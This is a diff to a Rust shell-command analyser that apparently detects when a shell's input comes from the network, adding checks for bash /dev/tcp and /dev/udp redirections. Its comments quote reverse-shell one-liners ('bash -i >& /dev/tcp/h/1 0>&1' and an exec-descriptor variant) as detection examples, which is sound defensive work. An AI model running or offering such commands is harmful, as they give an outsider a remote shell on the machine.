@@ -2,7 +2,7 @@
 
 use super::{Level, Reason, reason};
 use crate::shell::effects::{Effect, Kind, Place, canonical, effects, place_of};
-use crate::shell::parse::{Construct, How, Invocation, Script};
+use crate::shell::parse::{Construct, How, Invocation, Redirect, Script};
 
 /// Where a stream comes from.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -121,6 +121,26 @@ fn is_one_of(script: &Script, command: &Invocation, names: &[&str]) -> bool {
     names.contains(&key.as_str()) || !bare.is_empty() && names.contains(&bare)
 }
 
+/// True for the names under which bash reaches another machine.
+pub(super) fn is_socket(text: &str) -> bool {
+    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
+}
+
+/// True if a redirection of the command, or of what runs it, joins it to another machine: `bash -i >& /dev/tcp/h/1 0>&1`.
+pub(super) fn is_joined(script: &Script, command: &Invocation) -> bool {
+    let opened = || {
+        script
+            .commands
+            .iter()
+            .any(|c| c.name() == Some("exec") && c.redirects.iter().any(|r| is_socket(&r.target.text)))
+    };
+    // `exec 5<>/dev/tcp/h/1; sh <&5`: a descriptor that was opened before
+    let numbered = |r: &Redirect| r.duplicates() && r.target.text.parse::<u32>().is_ok_and(|number| number > 2);
+    let joins = |c: &Invocation| c.redirects.iter().any(|r| is_socket(&r.target.text) || numbered(r) && opened());
+    let outer = command.inside.filter(|i| i.how == How::Wrapped).map(|i| &script.commands[i.command]);
+    joins(command) || outer.is_some_and(joins)
+}
+
 /// Where the output of each command comes from, followed through pipes, substitutions and variables.
 fn origins(script: &Script) -> Vec<Option<Origin>> {
     let mut origins: Vec<Option<Origin>> = script.commands.iter().map(|c| source(script, c)).collect();
@@ -181,8 +201,8 @@ fn source(script: &Script, command: &Invocation) -> Option<Origin> {
     if is_one_of(script, command, FETCHERS) {
         return Some(Origin::Network);
     }
-    let tcp = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
-    if command.redirects.iter().any(|r| tcp(&r.target.text)) || command.args().iter().any(|w| tcp(&w.text)) {
+    if command.redirects.iter().any(|r| is_socket(&r.target.text)) || command.args().iter().any(|w| is_socket(&w.text))
+    {
         return Some(Origin::Network);
     }
     let decodes = match command.name()? {
@@ -225,6 +245,9 @@ fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[O
         if evaluates && by_variable(script, command, origins).is_some() {
             return by_variable(script, command, origins);
         }
+    }
+    if is_one_of(script, command, SHELLS) && reads_standard_input(command) && is_joined(script, command) {
+        return Some(Origin::Network);
     }
     let reads = (shell || evaluates) && command.stdin_pipe && reads_standard_input(command);
     let feeder = || {
